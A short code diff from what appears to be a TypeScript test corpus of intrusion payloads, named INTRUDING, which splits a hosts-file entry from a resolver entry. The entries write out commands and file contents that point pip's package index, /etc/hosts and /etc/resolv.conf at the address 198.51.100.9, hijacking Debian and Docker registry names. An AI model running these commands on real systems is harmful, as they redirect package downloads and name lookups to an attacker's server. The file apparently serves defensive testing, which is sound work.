@@ -117,6 +117,8 @@ export const INTRUDING: readonly Payload[] = [
   lies('mirror of packages', 'trust/package-mirror', 'pip', 'etc/pip.conf', '[global]\nindex-url = http://198.51.100.9/simple\ntrusted-host = 198.51.100.9\n'),
   ...command('names led elsewhere', 'trust/hosts', {
     hosts: 'echo "198.51.100.9 deb.debian.org registry-1.docker.io" >> /etc/hosts',
+  }),
+  ...command('names led elsewhere', 'trust/resolver', {
     'resolv.conf': 'echo "nameserver 198.51.100.9" > /etc/resolv.conf',
   }),
   lies('names led elsewhere', 'trust/hosts', 'hosts, in the image', 'etc/hosts', '127.0.0.1 localhost\n198.51.100.9 security.debian.org\n'),
